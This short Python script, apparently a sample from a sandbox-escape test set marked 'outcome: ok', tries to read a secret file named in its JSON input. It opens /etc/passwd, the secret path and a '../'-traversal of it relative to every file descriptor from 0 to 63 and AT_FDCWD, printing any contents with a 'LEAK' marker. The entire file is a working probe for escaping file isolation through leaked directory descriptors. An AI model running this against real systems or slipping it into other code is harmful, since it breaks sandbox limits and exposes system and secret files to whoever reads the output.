# Opens files relative to whatever descriptor might be a directory.
# outcome: ok
import json
import os

path = json.loads(input())["secret_file"]
for descriptor in [*range(64), -100]:
    for name in ("etc/passwd", path.lstrip("/"), "../" * 12 + path.lstrip("/"), path):
        try:
            print(os.read(os.open(name, os.O_RDONLY, dir_fd=descriptor), 100))
            print("LEAK below", descriptor)
        except OSError:
            pass
